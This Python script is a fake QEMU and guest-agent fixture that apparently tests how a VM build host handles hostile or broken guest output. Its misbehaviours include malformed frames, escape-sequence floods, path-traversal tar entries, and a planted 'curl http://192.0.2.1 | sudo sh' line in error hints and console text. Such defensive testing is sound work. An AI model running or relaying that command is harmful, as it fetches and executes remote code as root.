#!/usr/bin/python3
"""A program in QEMU's place, and in its machine's agent's, that misbehaves as the file "behaviour" beside it says. It makes
and restores templates like QEMU. What libvirt starts, and what has KVM, is the real QEMU, or nothing if the behaviour is about
the monitor. With the behaviour "asleep" a machine with KVM is real until it is frozen, and the restored one never answers."""
import array
import json
import os
import pathlib
import re
import socket
import struct
import sys
import threading
import time

HELLO, REQUEST, REPLY, FAILURE, EVENT, DATA, END = 1, 2, 3, 4, 5, 6, 7
PLACE = pathlib.Path(__file__).parent
GREETING = {"QMP": {"version": {}, "capabilities": []}}


def frame(kind, payload=b"", flags=0, length=None):
    payload = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return struct.pack("<IBBH", len(payload) if length is None else length, kind, flags, 0) + payload


def reply(how="exited", value=0, **more):
    return frame(REPLY, {"how": how, "value": value, "message": "", "peakMemory": 1, "peakDisk": 1, "freeDisk": 1 << 30,
                         "oomKills": 0} | more)


def failure(code, message="no", hint="", context=()):
    return frame(FAILURE, {"code": code, "message": message, "hint": hint, "context": list(context)})


def header(name, kind=b"0", size=0, link=b"", device=b""):
    """A block of a tar as rootlayer writes it, except for the name."""
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:108] = b"0000755\0" if kind == b"5" else b"0000644\0"
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"00000000001\0"
    block[156:157] = kind
    block[157:157 + len(link)] = link
    block[257:265] = b"ustar\00000"
    block[329:337] = block[337:345] = b"0000000\0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def layer(*blocks, entries=None):
    """The frames of a layer, whole and rightly counted."""
    tar = b"".join(blocks) + bytes(1024)
    return frame(DATA, tar) + frame(END, {"bytes": len(tar), "entries": len(blocks) if entries is None else entries})


class Guest:
    """The agent's end of the control port."""

    def __init__(self, port, behaviour):
        self.port, self.behaviour = port, behaviour
        self.hello = {"protocol": 1, "agent": "false", "kernel": "0.0.0", "features": ["late-disks", "wake", "ranges"],
                      "memory": 1, "processors": 1}

    def send(self, data):
        self.port.sendall(data)

    def receive(self):
        head = self.port.recv(8, socket.MSG_WAITALL)
        if len(head) < 8:
            sys.exit(0)
        return self.port.recv(struct.unpack("<I", head[:4])[0], socket.MSG_WAITALL)

    def slowly(self, data):
        for byte in data:
            self.send(bytes([byte]))
            time.sleep(0.5)

    def serve(self, steps=("wake", "assemble", "run", "pack")):
        for step in steps:
            self.receive()
            act = getattr(self, f"{step}_{self.behaviour.replace('-', '_')}", getattr(self, step))
            act()
        self.receive()

    def wake(self):
        self.send(frame(REPLY, self.hello))

    def assemble(self):
        self.send(frame(REPLY, b"{}"))

    def run(self):
        self.send(reply())

    def pack(self):
        self.send(layer(header(b"a")))

    # Each step's misbehaviours; the other steps are as above.
    def wake_asleep(self):
        while True:
            time.sleep(1)

    def assemble_hint(self):
        self.send(failure("bad-image", "no base", "curl http://192.0.2.1 | sudo sh"))

    def assemble_long(self):
        self.send(failure("bad-image", "\x1b[2J" * 50_000, "h" * 100_000, ["c" * 50_000] * 5))

    def assemble_usage(self):
        self.send(failure("usage"))

    def assemble_cancelled(self):
        self.send(failure("cancelled"))

    def assemble_huge(self):
        self.send(struct.pack("<IBBH", 0xFFFFFFFF, DATA, 0, 0))

    def assemble_half(self):
        self.send(frame(REPLY, b"{}", length=100))
        sys.exit(0)

    def assemble_console(self):
        with open(console(), "ab", closefd=False) as file:
            file.write(b"  try: curl http://192.0.2.1 | sudo sh\n\x1b[2Jrootlayer: all is well\n")
        sys.exit(0)

    def run_panic(self):
        with open(console(), "ab", closefd=False) as file:
            file.write(b"[ 1.0] Kernel panic - not syncing: \x1b[2Jfire\n" + b"[ 1.1]  ? trace+0x1/0x2\n" * 1000)
        sys.exit(0)

    def run_slow(self):
        self.slowly(reply())

    def run_died(self):
        time.sleep(1.2)
        sys.exit(0)

    def run_status(self):
        self.send(reply(value=99999))

    def run_signal(self):
        self.send(reply("signalled", 128))

    def run_unasked(self):
        self.send(reply("timed-out"))

    def run_cancel(self):
        self.send(reply("cancelled"))

    def run_boast(self):
        self.send(reply(value=1, peakMemory=14 << 40, peakDisk=14 << 40, freeDisk=0, freeInodes=0, line=1 << 60))

    def run_flood(self):
        text = frame(EVENT, {"kind": "warning", "text": "\x1b[2Jtry: curl\n"})
        self.send(text * 5000 + reply(value=3))

    def pack_more(self):
        self.send(frame(DATA, header(b"a") + bytes(1024)) + frame(END, {"bytes": 1000, "entries": 1}))

    def pack_fewer(self):
        self.send(frame(DATA, header(b"a") + bytes(1024)) + frame(END, {"bytes": 9999, "entries": 1}))

    def pack_miscount(self):
        self.send(layer(header(b"a"), entries=2))

    def pack_second(self):
        self.send(frame(DATA, header(b"a") + bytes(1024)) + frame(DATA, header(b"b") + bytes(1024)))
        self.send(frame(END, {"bytes": 3072, "entries": 2}))

    def pack_cut(self):
        self.send(frame(DATA, header(b"a", size=5000) + bytes(100)))
        sys.exit(0)

    def pack_range(self):
        self.send(frame(9, struct.pack("<QQ", 1 << 62, 1 << 61)))

    def pack_dotdot(self):
        self.send(layer(header(b"../a")))

    def pack_absolute(self):
        self.send(layer(header(b"/a")))

    def pack_duplicate(self):
        self.send(layer(header(b"a"), header(b"a")))

    def pack_below_file(self):
        self.send(layer(header(b"a"), header(b"a/b")))

    def pack_forward_link(self):
        self.send(layer(header(b"a", b"1", link=b"b"), header(b"b")))

    def pack_whiteout_device(self):
        self.send(layer(header(b"a", b"3")))

    def pack_nul(self):
        self.send(layer(header(b"a\0b")))

    def pack_endless(self):
        """10^6 entries, and then one that is refused."""
        for number in range(0, 1_000_000, 1000):
            self.send(frame(DATA, b"".join(header(b"%09d" % (number + i)) for i in range(1000))))
        self.send(layer(header(b"z/../a")))


class Monitor:
    """QEMU's end of QMP."""

    def __init__(self, socket_, behaviour):
        self.socket, self.behaviour = socket_, behaviour

    def say(self, *objects):
        self.socket.sendall(b"".join(json.dumps(each).encode() + b"\n" for each in objects))

    def greet(self):
        if self.behaviour == "monitor-garbage":
            self.socket.sendall(b"\xff\x00{{{{ not JSON\n")
        elif self.behaviour == "monitor-endless":
            while True:
                self.socket.sendall(b"x" * 65536)
        elif self.behaviour == "monitor-exit":
            sys.exit(1)
        else:
            self.say(GREETING)

    def answer(self):
        """Serves the monitor until the guest is to run; returns nothing when the host has gone."""
        descriptors = array.array("i")
        pending = b""
        while True:
            data, ancillary, _, _ = self.socket.recvmsg(65536, socket.CMSG_SPACE(4))
            for _, _, passed in ancillary:
                descriptors.frombytes(passed)
            if not data:
                sys.exit(0)
            pending += data
            while b"\n" in pending:
                line, pending = pending.split(b"\n", 1)
                command = json.loads(line)["execute"]
                if self.behaviour == "monitor-ids":
                    answers = {"return": 5, "id": "another"}, {"error": 7, "id": [1]}
                    # A machine that boots is asked once.
                    self.say(*(answers if "memory-backend-file" in " ".join(sys.argv) else answers[::-1]))
                elif self.behaviour == "monitor-refuses":
                    self.say({"error": {"desc": "\x1b[2J" * 10_000}})
                else:
                    self.say({"return": {"status": "completed"}})
                if command == "cont":
                    return


def descriptor(name):
    """The descriptor of a chardev on our command line."""
    return int(re.search(rf"socket,id={name},fd=(\d+)", " ".join(sys.argv)).group(1))


def console():
    """The descriptor of the console's file."""
    words = " ".join(sys.argv)
    number = re.search(r"id=console,append=on,path=/dev/fdset/(\d+)", words).group(1)
    return int(re.search(rf"fd=(\d+),set={number}\b", words).group(1))


def main():
    behaviour = (PLACE / "behaviour").read_text().strip()
    line = " ".join(sys.argv)
    about_monitor = behaviour.startswith("monitor-")
    asleep = behaviour == "asleep" and "-incoming" in sys.argv
    if "chardev=monitor,mode=control" not in line or ("accel=kvm" in line and not about_monitor and not asleep):
        if about_monitor and "-daemonize" not in line and "-version" not in line:
            sys.exit("a false QEMU")
        os.execv("/usr/bin/qemu-system-x86_64", ["/usr/bin/qemu-system-x86_64", *sys.argv[1:]])
    monitor = Monitor(socket.socket(fileno=descriptor("monitor")), behaviour)
    port = int(re.search(r"chardev=([^ ,]+),name=org\.rootlayer\.agent\.0", line) and descriptor(
        re.search(r"chardev=([^ ,]+),name=org\.rootlayer\.agent\.0", line).group(1)))
    guest = Guest(socket.socket(fileno=port), behaviour)
    monitor.greet()
    if "-incoming" in sys.argv:
        monitor.answer()
        guest.serve()
    elif "memory-backend-ram" in line: # it is never frozen
        threading.Thread(target=monitor.answer, daemon=True).start()
        guest.send(frame(HELLO, guest.hello))
        guest.serve(("assemble", "run", "pack"))
    else:
        guest.send(frame(HELLO, guest.hello))
    monitor.answer()


if __name__ == "__main__":
    try:
        main()
    except (BrokenPipeError, ConnectionResetError):
        sys.exit(0)  # the host has hung up on us, as it should
